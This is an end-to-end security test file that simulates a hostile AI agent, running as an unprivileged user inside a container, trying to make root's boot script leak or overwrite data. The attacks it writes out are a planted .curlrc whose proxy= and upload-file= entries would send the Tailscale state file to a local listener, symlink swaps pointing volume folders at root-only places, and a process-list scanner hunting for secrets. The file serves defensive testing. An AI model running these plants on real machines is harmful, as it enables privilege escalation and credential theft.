/**
 * Issue 8, points 1-3: a hostile agent runs as `node` inside the machine. It must not make root's boot script
 * write, chown or upload anything for it, nor read a secret from a process list or a daemon's environment.
 *
 * The defaults project (Tailscale with real tailscaled + headscale in the test's network namespace, PostgreSQL in
 * the machine) is generated, built and booted on a volume. A scanner running as `node` records every command
 * line it sees during boot, after boot and while the maintenance commands run. Then the agent plants its attacks
 * from inside (podman exec --user node): a ~/.curlrc with proxy=/upload-file=/output=, and the volume root's
 * entries renamed and replaced by symbolic links to root-only places. The machine restarts (same container, so
 * the root-only places keep what root may have done to them) and everything is checked from outside.
 * Last, a volume in the layout of earlier versions (volume root owned by node) with a plant made before the
 * upgrade: the boot refuses with a FATAL line naming the path, and once it is removed migrates the volume.
 *
 * What each attack did is printed as JSON ([contain-root] outcomes): the figures of the closing note.
 */
import { randomBytes } from 'node:crypto';
import {
  chmodSync,
  cpSync,
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { sleep, waitForHealth } from './lib/http.js';
import { isPaperclip, isPostgres, isTailscaled, processes } from './lib/inside.js';
import { Machine } from './lib/machine.js';
import { NetNs } from './lib/netns.js';
import { podman, podmanOut, run } from './lib/podman.js';
import { generateProject, readFlyToml, type FlyMachine } from './lib/project.js';
import { machineSteps } from './lib/steps.js';
import { Headscale, LOGIN_SERVER, TAILSCALED_ENV, peerBinaries } from './lib/tailnet.js';

const E2E_PREFIX = process.env.E2E_PREFIX ?? 'pcfly-e2e';
const APP_UID = 1000;
/** Root-only places inside the machine that the agent's links point at; each holds a canary file. */
const TARGETS = '/srv/pcfly-target';
/** Where a .curlrc `output=` would make root write. */
const CURL_OUTPUT = '/etc/pcfly-curlrc-output';
/** The agent's listener, which a .curlrc `proxy=` would send root's requests (and uploads) to. */
const LISTENER_PORT = 47123;
const LISTENER_LOG = '/tmp/pcfly-listener.log';
/** The scanner's output and its stop/done markers (in the container's /tmp). */
const SCAN = { out: '/tmp/pcfly-cmdlines', stop: '/tmp/pcfly-scan.stop', done: '/tmp/pcfly-scan.done' };
/** Volume root entries the agent tries to take: the root- and postgres-owned areas and Paperclip's instances. */
const TAKEN = ['tailscale', 'postgres', 'backups', 'restore', 'instances'];

const random = (bytes = 24) => randomBytes(bytes).toString('hex');

/** What each attack did: printed at the end. */
const outcomes: Record<string, unknown> = {};
afterAll(() => {
  console.log(`[contain-root] outcomes ${JSON.stringify(outcomes, null, 2)}`);
});

/**
 * CONTAIN_ROOT_PROJECTS=<folder> takes the projects from <folder>/defaults and <folder>/external instead of
 * generating them: how the same steps were run against the output of the tree before the fix (before/after figures).
 */
const GIVEN_PROJECTS = process.env.CONTAIN_ROOT_PROJECTS;

/** The defaults project, or the one with neither system PostgreSQL nor Tailscale, generated or given, into <dir>. */
async function project(dir: string, kind: 'defaults' | 'external'): Promise<void> {
  if (GIVEN_PROJECTS) {
    cpSync(join(GIVEN_PROJECTS, kind), dir, { recursive: true });
    return;
  }
  mkdirSync(dir);
  const flags =
    kind === 'defaults'
      ? ['--appName', 'e2e-contain', '--tailscaleLoginServer', LOGIN_SERVER]
      : ['--appName', 'e2e-contain-ext', '--no-tailscale', '--postgresMode', 'external'];
  await generateProject(dir, flags);
}

/** Changes of owner or mode, summarised: count, and the paths (relative to the volume) two levels deep. */
function summarise(changes: string[]) {
  return { count: changes.length, top: [...new Set(changes.map((path) => path.split('/').slice(0, 2).join('/')))] };
}

/** Runs a command as uid/gid 1000 on the host (node's ids): whether node can read a path of the volume or the machine's root file system. */
async function readableByNode(paths: string[]): Promise<string[]> {
  const readable: string[] = [];
  for (const path of paths) {
    const result = await run('setpriv', ['--reuid=1000', '--regid=1000', '--clear-groups', 'cat', path], {
      allowFailure: true,
    });
    if (result.code === 0) readable.push(path);
  }
  return readable;
}

/** Every inode of the volume with its owner and mode (lstat, links not followed), by inode number. */
function inodes(dir: string): Map<number, { path: string; uid: number; gid: number; mode: number }> {
  const out = new Map<number, { path: string; uid: number; gid: number; mode: number }>();
  const walk = (path: string) => {
    const stat = lstatSync(path);
    out.set(stat.ino, { path, uid: stat.uid, gid: stat.gid, mode: stat.mode });
    if (stat.isDirectory()) for (const name of readdirSync(path)) walk(join(path, name));
  };
  walk(dir);
  return out;
}

/** A shell loop, run as node, that records every distinct command line until the stop file appears. */
const SCANNER = `
while [ ! -e ${SCAN.stop} ]; do
  for f in /proc/[0-9]*/cmdline; do tr '\\0' ' ' <"$f" 2>/dev/null; echo; done
done | awk '!seen[$0]++' >${SCAN.out}
touch ${SCAN.done}`;

/** The agent's listener: whatever arrives is appended to its log; it answers 200 with a body. */
const LISTENER = `
const fs = require('node:fs');
require('node:net').createServer((socket) => {
  socket.on('data', (chunk) => fs.appendFileSync('${LISTENER_LOG}', chunk));
  socket.on('error', () => {});
  setTimeout(() => socket.end('HTTP/1.1 200 OK\\r\\nContent-Length: 6\\r\\nConnection: close\\r\\n\\r\\nPWNED\\n'), 300);
}).listen(${LISTENER_PORT}, '127.0.0.1');`;

describe('contain root: a hostile agent as node against the boot script', () => {
  let work: string;
  let projectDir: string;
  let volumeDir: string;
  let fly: FlyMachine;
  let image: string;
  let machine: Machine | undefined;
  let port: number;
  let netns: NetNs | undefined;
  let headscale: Headscale | undefined;
  /** node's HOME inside the machine (its area on the volume). */
  let nodeHome: string;
  const secrets: Record<string, string> = {};
  // Attack checks are not setup ({ setup: false }): one that fails does not stop the others.
  const { step, failed } = machineSteps(() => machine);

  afterAll(async () => {
    await machine?.remove();
    await headscale?.stop();
    await netns?.remove();
    if (work && !failed()) rmSync(work, { recursive: true, force: true });
    else if (work) console.error(`[contain-root] failed; project and volume kept in ${work}`);
  });

  const exec = (command: string[], user?: string) =>
    podman(['exec', ...(user ? ['--user', user] : []), machine!.name, ...command], { allowFailure: true });
  const asNode = (script: string) => exec(['sh', '-c', script], 'node');
  const asRoot = (script: string) => exec(['sh', '-c', script]);

  /** Starts the scanner as node; retried until the container accepts an exec. */
  async function startScanner() {
    for (let tries = 0; tries < 100; tries++) {
      const started = await podman(
        ['exec', '-d', '--user', 'node', machine!.name, 'sh', '-c', `rm -f ${SCAN.stop} ${SCAN.done}; ${SCANNER}`],
        { allowFailure: true },
      );
      if (started.code === 0) return;
      await sleep(100);
    }
    throw new Error('the scanner could not start');
  }

  /** Stops the scanner and returns the command lines it saw. */
  async function stopScanner(): Promise<string[]> {
    await asNode(`touch ${SCAN.stop}`);
    for (let tries = 0; tries < 100; tries++) {
      if ((await asNode(`test -e ${SCAN.done}`)).code === 0) break;
      await sleep(100);
    }
    return (await asNode(`cat ${SCAN.out}`)).stdout.split('\n').filter(Boolean);
  }

  /** The secrets the test knows plus the database password the machine made; name → value. */
  function secretValues(): Record<string, string> {
    const values: Record<string, string> = { ...secrets };
    const password = join(volumeDir, 'postgres', 'app-password');
    try {
      values.DB_PASSWORD = readFileSync(password, 'utf8').trim();
    } catch {
      // not created (yet)
    }
    return values;
  }

  /** Names of the secrets whose value appears in one of the lines. */
  const leakedIn = (lines: string[]) =>
    Object.entries(secretValues())
      .filter(([, value]) => lines.some((line) => line.includes(value)))
      .map(([name]) => name);

  /** What a planted .curlrc made root do: a file written at CURL_OUTPUT, requests (and the state file) sent to the agent. */
  async function curlrcEffects() {
    const root = await rootfs();
    const written = join(root, CURL_OUTPUT);
    const received = join(root, LISTENER_LOG);
    const log = existsSync(received) ? readFileSync(received, 'latin1') : '';
    return {
      outputFileWrittenByRoot: existsSync(written) ? readFileSync(written, 'utf8').trim() : false,
      requestsToAgentListener: (log.match(/^(GET|PUT|POST) /gm) ?? []).length,
      tailscaledStateUploaded: log.includes('_machinekey') || log.includes('"_profiles"'),
    };
  }

  /** The machine's root file system on the host (running or stopped): podman mount. */
  const rootfs = () => podmanOut(['mount', machine!.name]);

  async function boot(how: 'replace' | 'start') {
    const started = how === 'replace' ? await machine!.replace() : await machine!.start();
    await startScanner();
    return started;
  }

  step('generates the defaults project and builds its Dockerfile', async () => {
    work = mkdtempSync(join(tmpdir(), 'pcfly-contain-root-'));
    // Traversable, so that uid 1000 on the host sees the volume as node does inside.
    await run('chmod', ['755', work]);
    projectDir = join(work, 'project');
    volumeDir = join(work, 'volume');
    mkdirSync(volumeDir);
    await project(projectDir, 'defaults');
    fly = readFlyToml(projectDir);
    image = `localhost/${E2E_PREFIX}/contain-root:latest`;
    await podman(['build', '--pull=never', '--tag', image, projectDir], { timeoutSeconds: 20 * 60 });
    await podman(['image', 'prune', '--force']);
  });

  step('starts the tailnet (headscale with a reusable key) in a namespace of its own', async () => {
    const binaries = peerBinaries();
    netns = await NetNs.create(`${E2E_PREFIX}-contain`);
    headscale = new Headscale(binaries.headscale, join(work, 'headscale'), netns);
    await headscale.start();
    const user = await headscale.createUser('e2e');
    secrets.TS_AUTHKEY = await headscale.createKey(user, { reusable: true });
    await headscale.setPolicy({ https: true });
  });

  step('first boot, watched by a command-line scanner running as node', async () => {
    secrets.BETTER_AUTH_SECRET = random();
    secrets.PAPERCLIP_AGENT_JWT_SECRET = random();
    secrets.ANTHROPIC_API_KEY = `sk-ant-FAKE-${random(16)}`;
    port = await netns!.forward(fly.internalPort);
    machine = new Machine({
      name: `${E2E_PREFIX}-contain-root`,
      image,
      volumeDir,
      volumePath: fly.volume,
      env: { FLY_APP_NAME: 'e2e-contain', ...fly.env, ...TAILSCALED_ENV },
      secrets,
      runFlags: ['--network', `ns:${netns!.path}`, '--device', '/dev/net/tun', '--cap-add', 'NET_ADMIN'],
    });
    const started = await boot('replace');
    await waitForHealth(port, started, fly.deployWaitSeconds, async () => !(await machine!.isRunning()));
    await machine.waitForLog(/Admin invite URL: (\S+)|an admin invite is already pending/, 60);
    nodeHome = (await podmanOut(['exec', machine.name, 'getent', 'passwd', 'node'])).split(':')[5]!;
    outcomes.nodeHome = nodeHome;
  });

  step(
    'the daemons hold only what they need: no app secret in PostgreSQL or tailscaled, the agent keys in Paperclip',
    async () => {
      const procs = await processes(machine!);
      const appSecrets = ['BETTER_AUTH_SECRET', 'PAPERCLIP_AGENT_JWT_SECRET', 'ANTHROPIC_API_KEY', 'DATABASE_URL'];
      const daemons = {
        postgres: procs.filter(isPostgres),
        tailscaled: procs.filter(isTailscaled),
        paperclip: procs.filter(isPaperclip),
      };
      const found = Object.fromEntries(
        Object.entries(daemons).map(([name, list]) => [
          name,
          [
            ...new Set(
              list.flatMap((proc) => proc.envNames.filter((env) => [...appSecrets, 'TS_AUTHKEY'].includes(env))),
            ),
          ],
        ]),
      );
      outcomes.secretsInDaemonEnvironment = found;
      expect(daemons.postgres.length).toBeGreaterThan(0);
      expect(daemons.tailscaled).toHaveLength(1);
      expect(daemons.paperclip).toHaveLength(1);
      expect(found.postgres).toEqual([]);
      expect(found.tailscaled).toEqual([]);
      // Agents inherit Paperclip's environment: the agent key is there, the Tailscale key is not.
      expect(found.paperclip).toContain('ANTHROPIC_API_KEY');
      expect(found.paperclip).not.toContain('TS_AUTHKEY');
    },
    { setup: false },
  );

  step(
    'no secret on any command line during boot, after boot, or while start.sh invite and backup run',
    async () => {
      const invite = await exec(['/usr/local/bin/start.sh', 'invite']);
      const backup = await exec(['/usr/local/bin/start.sh', 'backup']);
      outcomes.maintenance = { invite: invite.code, backup: backup.code };
      await sleep(1000);
      const lines = await stopScanner();
      const leaked = leakedIn(lines);
      // Which programs carried them (the first two words of each such line, values not printed).
      const values = Object.values(secretValues());
      outcomes.secretsOnCommandLines = {
        secrets: leaked,
        programs: [
          ...new Set(
            lines
              .filter((line) => values.some((value) => line.includes(value)))
              .map((line) => line.split(' ').slice(0, 2).join(' ')),
          ),
        ],
      };
      outcomes.commandLinesSeen = lines.length;
      expect(invite.code, invite.stderr).toBe(0);
      expect(backup.code, backup.stderr).toBe(0);
      expect(lines.some((line) => line.includes('tailscale') && line.includes(' up '))).toBe(true);
      expect(leaked).toEqual([]);
    },
    { setup: false },
  );

  step(
    'strict secret mode stays on (Paperclip authenticated default)',
    async () => {
      const config = JSON.parse((await asNode(`cat ${nodeHome}/instances/default/config.json`)).stdout) as {
        secrets?: { strictMode?: boolean };
      };
      outcomes.strictMode = config.secrets?.strictMode;
      expect(config.secrets?.strictMode).not.toBe(false);
    },
    { setup: false },
  );

  let before: Map<number, { path: string; uid: number; gid: number; mode: number }>;
  let targetsBefore: string;
  let plants: Record<string, { code: number; stderr: string }>;

  step(
    'the agent plants a ~/.curlrc (proxy=, upload-file=, output=): root’s health check (watchdog, every 30 s) obeys none of it',
    async () => {
      // Root-only places in the machine's root file system, each with a canary (kept by the restart below).
      const canaries = TAKEN.map(
        (name) =>
          `mkdir -p ${TARGETS}/${name} && echo ${random(8)} >${TARGETS}/${name}/canary && chmod 600 ${TARGETS}/${name}/canary`,
      ).join(' && ');
      expect((await asRoot(`${canaries} && chmod 700 ${TARGETS} ${TARGETS}/*`)).code).toBe(0);
      targetsBefore = (await asRoot(`cd ${TARGETS} && find . -printf '%p %u %g %m %s\\n' | sort && cat */canary`))
        .stdout;
      before = inodes(volumeDir);

      await podman(['exec', '-d', '--user', 'node', machine!.name, 'node', '-e', LISTENER]);
      const curlrc = [
        `proxy = http://127.0.0.1:${LISTENER_PORT}`,
        `upload-file = ${fly.volume}/tailscale/tailscaled.state`,
        `output = ${CURL_OUTPUT}`,
      ].join('\\n');
      plants = {};
      for (const dir of [...new Set(['$HOME', fly.volume])]) {
        plants[`curlrc in ${dir}`] = await asNode(`printf '${curlrc}\\n' >${dir}/.curlrc`);
      }
      // One watchdog round with the .curlrc in place.
      await sleep(35_000);
      const effects = await curlrcEffects();
      outcomes.curlrcWhileRunning = effects;
      expect(effects).toEqual({
        outputFileWrittenByRoot: false,
        requestsToAgentListener: 0,
        tailscaledStateUploaded: false,
      });
    },
    { setup: false },
  );

  step('the agent renames the volume root’s entries and puts links to root-only places in their stead', async () => {
    for (const name of TAKEN) {
      plants[`rename ${name}`] = await asNode(`mv ${fly.volume}/${name} ${fly.volume}/${name}.stolen`);
      plants[`link ${name}`] = await asNode(
        `rm -rf ${fly.volume}/${name} 2>/dev/null; ln -s ${TARGETS}/${name} ${fly.volume}/${name}`,
      );
    }
    outcomes.plants = Object.fromEntries(
      Object.entries(plants).map(([what, result]) => [what, result.code === 0 ? 'done' : result.stderr.trim()]),
    );
  });

  step(
    'restart: the boot refuses or ignores every plant, and says so',
    async () => {
      await machine!.stop(fly.killSignal, fly.killTimeoutSeconds);
      const started = await boot('start');
      let healthy: number | string;
      try {
        healthy = await waitForHealth(port, started, 150, async () => !(await machine!.isRunning()));
      } catch (error) {
        healthy = (error as Error).message;
      }
      const log = await machine!.bootLogs();
      outcomes.restartAfterPlants = {
        healthy,
        fatal: log.split('\n').filter((line) => /^\[start\] .*(FATAL|ERROR|refus)/.test(line)),
      };
      const refused = log.split('\n').filter((line) => line.includes('FATAL'));
      // Either the plants never took (the volume root is not node's) or the boot refused with a line naming one.
      const took = Object.entries(plants).filter(([what, result]) => what.startsWith('rename') && result.code === 0);
      if (took.length) expect(refused.join('\n')).toMatch(new RegExp(`FATAL: ${fly.volume}/(${TAKEN.join('|')})`));
      else expect(typeof healthy).toBe('number');
    },
    { setup: false },
  );

  step(
    'nothing outside node’s area changed owner, no root-only file became readable, nothing was written or sent for the agent',
    async () => {
      await sleep(35_000); // one more watchdog round, with the machine up again (if it is)
      const after = inodes(volumeDir);
      const changed = [...before]
        .filter(([, entry]) => entry.uid !== APP_UID)
        .flatMap(([ino, entry]) => {
          const now = after.get(ino);
          return now && (now.uid !== entry.uid || now.gid !== entry.gid || now.mode !== entry.mode)
            ? [
                `${entry.path} ${entry.uid}:${entry.gid} ${entry.mode.toString(8)} -> ${now.path} ${now.uid}:${now.gid} ${now.mode.toString(8)}`,
              ]
            : [];
        });
      const root = await rootfs();
      const targetsAfter = (
        await run('sh', ['-c', `cd ${root}${TARGETS} && find . -printf '%p %u %g %m %s\\n' | sort && cat */canary`])
      ).stdout;
      const readable = await readableByNode([
        join(volumeDir, 'tailscale/tailscaled.state'),
        join(volumeDir, 'postgres/app-password'),
        join(volumeDir, 'tailscale.stolen/tailscaled.state'),
        join(volumeDir, 'postgres.stolen/app-password'),
      ]);
      // The canaries are in the machine's root file system: read as node inside, when the machine runs.
      if (await machine!.isRunning()) {
        const canaries = await asNode(
          `for f in ${TARGETS}/*/canary; do cat "$f" >/dev/null 2>&1 && echo "$f"; done; true`,
        );
        readable.push(...canaries.stdout.split('\n').filter(Boolean));
      }
      const curl = await curlrcEffects();
      outcomes.afterRestart = {
        ownerOrModeChangedOutsideNodeArea: summarise(
          changed.map((line) => line.split(' ')[0]!.slice(volumeDir.length + 1)),
        ),
        targetsChanged: targetsAfter !== targetsBefore,
        readableByNode: readable.map((path) => path.replace(volumeDir, fly.volume)),
        ...curl,
      };
      expect(changed).toEqual([]);
      expect(targetsAfter).toBe(targetsBefore);
      expect(readable).toEqual([]);
      expect(curl).toEqual({
        outputFileWrittenByRoot: false,
        requestsToAgentListener: 0,
        tailscaledStateUploaded: false,
      });
    },
    { setup: false },
  );

  let legacyConfig: string;
  let nodeId: string;
  let legacyBefore: Map<number, { path: string; uid: number; gid: number; mode: number }>;

  step(
    'a volume of the earlier layout (volume root owned by node) with a link planted before the upgrade: the boot refuses, naming it',
    async () => {
      if (await machine!.isRunning()) await machine!.stop(fly.killSignal, fly.killTimeoutSeconds);
      const nodes = (await headscale!.nodes()).filter((node) => node.name === fly.env.TS_HOSTNAME);
      expect(nodes).toHaveLength(1);
      nodeId = nodes[0]!.id;
      // Back to the layout before home/: node's entries at the volume root, the config naming those paths.
      const home = join(volumeDir, 'home');
      rmSync(join(volumeDir, 'instances'), { force: true });
      for (const name of readdirSync(home)) {
        if (!existsSync(join(volumeDir, name))) await run('mv', ['-T', join(home, name), join(volumeDir, name)]);
      }
      rmSync(home, { recursive: true, force: true });
      for (const name of readdirSync(volumeDir).filter((name) => name.endsWith('.stolen'))) {
        rmSync(join(volumeDir, name), { recursive: true, force: true });
      }
      const config = join(volumeDir, 'instances/default/config.json');
      await run('sed', ['-i', `s#${fly.volume}/home/#${fly.volume}/#g`, config]);
      legacyConfig = readFileSync(config, 'utf8');
      expect(legacyConfig).not.toContain(`${fly.volume}/home/`);
      await run('chown', [`${APP_UID}:${APP_UID}`, volumeDir]);
      // The agent's plants, made while the volume root was its own.
      const asUid = (script: string) =>
        run('setpriv', ['--reuid=1000', '--regid=1000', '--clear-groups', 'sh', '-c', script], { allowFailure: true });
      outcomes.legacyPlants = {
        tailscale: (
          await asUid(`cd ${volumeDir} && mv tailscale tailscale.stolen && ln -s ${TARGETS}/tailscale tailscale`)
        ).code,
        home: (await asUid(`cd ${volumeDir} && ln -s ${TARGETS}/instances home`)).code,
      };
      legacyBefore = inodes(volumeDir);
      await machine!.start();
      for (let tries = 0; tries < 240 && (await machine!.isRunning()); tries++) await sleep(500);
      const log = await machine!.bootLogs();
      outcomes.legacyWithPlant = {
        running: await machine!.isRunning(),
        fatal: log.split('\n').filter((line) => line.includes('FATAL')),
      };
      expect(await machine!.isRunning()).toBe(false);
      expect(log).toContain(`FATAL: ${fly.volume}/tailscale is a symbolic link (to ${TARGETS}/tailscale)`);
      const after = inodes(volumeDir);
      const changed = [...legacyBefore]
        .filter(([, entry]) => entry.uid !== APP_UID)
        .filter(([ino, entry]) => after.get(ino) && after.get(ino)!.uid !== entry.uid);
      expect(changed).toEqual([]);
      const root = await rootfs();
      expect(lstatSync(join(root, TARGETS, 'tailscale')).uid).toBe(0);
      expect(readdirSync(join(root, TARGETS, 'tailscale'))).toEqual(['canary']);
    },
  );

  step(
    'with the link removed, the boot migrates the volume: home/ is node’s, the old paths work through a root-owned link, same tailnet node',
    async () => {
      rmSync(join(volumeDir, 'tailscale'));
      await run('mv', ['-T', join(volumeDir, 'tailscale.stolen'), join(volumeDir, 'tailscale')]);
      const started = await boot('start');
      const healthy = await waitForHealth(
        port,
        started,
        fly.deployWaitSeconds,
        async () => !(await machine!.isRunning()),
      );
      const log = await machine!.bootLogs();
      const volume = lstatSync(volumeDir);
      const home = lstatSync(join(volumeDir, 'home'));
      const link = lstatSync(join(volumeDir, 'instances'));
      outcomes.legacyMigration = {
        healthySeconds: Math.round(healthy * 10) / 10,
        moved: log.split('\n').filter((line) => line.includes('moved ')).length,
        volumeRoot: `${volume.uid}:${volume.gid} ${(volume.mode & 0o777).toString(8)}`,
        home: `${home.uid}:${home.gid} ${(home.mode & 0o777).toString(8)}`,
      };
      expect(`${volume.uid} ${(volume.mode & 0o777).toString(8)}`).toBe('0 755');
      expect(`${home.uid} ${(home.mode & 0o777).toString(8)}`).toBe(`${APP_UID} 700`);
      expect(link.isSymbolicLink() && link.uid === 0).toBe(true);
      expect(readFileSync(join(volumeDir, 'home/instances/default/config.json'), 'utf8')).toBe(legacyConfig);
      // node's old "home" link moved as a link, never followed.
      expect(lstatSync(join(volumeDir, 'home/.home-before-migration')).isSymbolicLink()).toBe(true);
      const nodes = (await headscale!.nodes()).filter((node) => node.name === fly.env.TS_HOSTNAME);
      expect(nodes.map((node) => node.id)).toEqual([nodeId]);
      const after = inodes(volumeDir);
      const changed = [...legacyBefore]
        .filter(([, entry]) => entry.uid !== APP_UID)
        .filter(([ino, entry]) => after.get(ino) && after.get(ino)!.uid !== entry.uid);
      expect(changed).toEqual([]);
    },
  );
});

/**
 * prepare_volume alone, sourced from the generated start.sh and run as root against a folder standing in for the
 * volume (seconds, no image): every area replaced by a link or a file, areas the settings do not use, and a volume
 * of the earlier layout. The host has no node user: `daemon` stands in for it.
 */
describe('contain root: prepare_volume against planted links, other settings and the earlier layout', () => {
  const STAND_IN = { user: 'daemon', uid: 1 };
  let work: string;
  const scripts = { defaults: '', external: '' };

  afterAll(() => {
    if (work) rmSync(work, { recursive: true, force: true });
  });

  /** start.sh of a project with its volume paths moved to <volume> and the stand-in as app user. */
  function scriptFor(kind: 'defaults' | 'external', volume: string): string {
    const path = join(work, `start-${kind}-${random(4)}.sh`);
    const text = readFileSync(scripts[kind], 'utf8')
      .replace(/^(readonly [A-Z_]+=)\/paperclip/gm, `$1${volume}`)
      .replace(/^readonly RUN_USER=node$/m, `readonly RUN_USER=${STAND_IN.user}`);
    writeFileSync(path, text);
    return path;
  }

  /** A fresh folder standing in for the volume, owned by root as Fly delivers it, and a root-only place outside. */
  function volume(): { dir: string; target: string } {
    const dir = mkdtempSync(join(work, 'volume-'));
    const target = mkdtempSync(join(work, 'target-'));
    // 755, so that a chmod 700 through a link would show.
    chmodSync(target, 0o755);
    writeFileSync(join(target, 'canary'), random(8), { mode: 0o600 });
    return { dir, target };
  }

  const prepare = (script: string) =>
    run('bash', ['-c', 'source "$1"; prepare_volume', 'contain-root-test', script], { allowFailure: true });

  const ownerMode = (path: string) => {
    const stat = lstatSync(path);
    return `${stat.uid}:${stat.gid} ${(stat.mode & 0o7777).toString(8)}`;
  };

  it('generates the two projects', async () => {
    work = mkdtempSync(join(tmpdir(), 'pcfly-contain-volume-'));
    for (const kind of ['defaults', 'external'] as const) {
      await project(join(work, kind), kind);
      scripts[kind] = join(work, kind, 'start.sh');
    }
  });

  it('a fresh volume: root-owned root, each area with its owner and mode, the compatibility link', async () => {
    const { dir } = volume();
    const result = await prepare(scriptFor('defaults', dir));
    expect(result.code, result.stderr).toBe(0);
    const postgres = (await run('id', ['-u', 'postgres'])).stdout.trim();
    expect(
      Object.fromEntries(readdirSync(dir).map((name) => [name, ownerMode(join(dir, name)).replace(/:\d+/, '')])),
    ).toEqual({
      home: `${STAND_IN.uid} 700`,
      postgres: `${postgres} 700`,
      tailscale: '0 700',
      backups: '0 700',
      restore: '0 700',
      instances: '0 777',
    });
    expect(ownerMode(dir)).toBe('0:0 755');
  });

  const areas = ['home', 'postgres', 'tailscale', 'backups', 'restore'];
  it.each(areas)('%s replaced by a link to a root-only place: FATAL naming it, the place untouched', async (area) => {
    const { dir, target } = volume();
    await prepare(scriptFor('defaults', dir));
    rmSync(join(dir, area), { recursive: true });
    symlinkSync(target, join(dir, area));
    const before = `${ownerMode(target)} ${readdirSync(target).join(',')}`;
    const result = await prepare(scriptFor('defaults', dir));
    const links = (outcomes.volumeLinks ??= {}) as Record<string, unknown>;
    links[area] = {
      exit: result.code,
      target: `${ownerMode(target)} ${readdirSync(target).join(',')}`,
    };
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(`FATAL: ${dir}/${area} is a symbolic link (to ${target})`);
    expect(`${ownerMode(target)} ${readdirSync(target).join(',')}`).toBe(before);
  });

  it.each(areas)('%s replaced by a file: FATAL naming it', async (area) => {
    const { dir } = volume();
    await prepare(scriptFor('defaults', dir));
    rmSync(join(dir, area), { recursive: true });
    writeFileSync(join(dir, area), 'x');
    const result = await prepare(scriptFor('defaults', dir));
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(`FATAL: ${dir}/${area} is not a folder`);
  });

  it('external PostgreSQL and no Tailscale: the old postgres/ and tailscale/ stay exactly as they are', async () => {
    const { dir } = volume();
    // As a machine with system PostgreSQL and Tailscale left them.
    mkdirSync(join(dir, 'tailscale'), { mode: 0o700 });
    mkdirSync(join(dir, 'postgres'), { mode: 0o700 });
    writeFileSync(join(dir, 'tailscale', 'tailscaled.state'), '{}', { mode: 0o600 });
    writeFileSync(join(dir, 'postgres', 'app-password'), random(), { mode: 0o600 });
    await run('chown', ['-R', 'postgres:postgres', join(dir, 'postgres')]);
    const before = inodes(dir);
    const result = await prepare(scriptFor('external', dir));
    expect(result.code, result.stderr).toBe(0);
    const after = inodes(dir);
    // The volume root itself is the boot's to own; everything below it must stay as it was.
    const changed = [...before].filter(([ino, entry]) => {
      if (entry.path === dir) return false;
      const now = after.get(ino);
      return !now || now.path !== entry.path || now.uid !== entry.uid || now.mode !== entry.mode;
    });
    outcomes.settingsSwitch = changed.map(([ino, entry]) => {
      const now = after.get(ino);
      return `${entry.path.slice(dir.length + 1)} ${entry.uid} -> ${now ? `${now.path.slice(dir.length + 1)} ${now.uid}` : 'gone'}`;
    });
    expect(changed.map(([, entry]) => entry.path)).toEqual([]);
  });

  it('the earlier layout: the volume root becomes root’s, node’s entries move into home/ as they are', async () => {
    const { dir, target } = volume();
    mkdirSync(join(dir, 'instances', 'default'), { recursive: true });
    writeFileSync(join(dir, 'instances', 'default', 'config.json'), '{}');
    mkdirSync(join(dir, '.claude'));
    symlinkSync(target, join(dir, 'home'));
    mkdirSync(join(dir, 'tailscale'), { mode: 0o700 });
    await run('chown', [
      '-hR',
      `${STAND_IN.uid}:${STAND_IN.uid}`,
      join(dir, 'instances'),
      join(dir, '.claude'),
      join(dir, 'home'),
    ]);
    await run('chown', [`${STAND_IN.uid}:${STAND_IN.uid}`, dir]);
    const result = await prepare(scriptFor('defaults', dir));
    expect(result.code, result.stderr).toBe(0);
    expect(ownerMode(dir)).toBe('0:0 755');
    expect(readdirSync(join(dir, 'home')).sort()).toEqual(['.claude', '.home-before-migration', 'instances']);
    expect(lstatSync(join(dir, 'home', '.home-before-migration')).isSymbolicLink()).toBe(true);
    expect(readFileSync(join(dir, 'instances', 'default', 'config.json'), 'utf8')).toBe('{}');
    expect(ownerMode(target)).toBe('0:0 755');
    // Once migrated, a second boot changes nothing.
    const again = inodes(dir);
    expect((await prepare(scriptFor('defaults', dir))).code).toBe(0);
    expect([...inodes(dir)].map(([ino, e]) => `${ino} ${e.path} ${e.uid} ${e.mode}`)).toEqual(
      [...again].map(([ino, e]) => `${ino} ${e.path} ${e.uid} ${e.mode}`),
    );
  });
});
